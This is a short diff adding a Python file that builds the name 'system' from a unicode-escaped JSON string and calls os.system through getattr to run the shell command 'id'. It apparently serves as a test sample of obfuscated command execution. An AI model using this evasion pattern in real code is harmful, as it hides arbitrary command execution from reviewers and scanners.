@@ -1,0 +1,4 @@
+import json
+import os
+
+getattr(os, json.loads('"\\u0073ystem"'))("id")
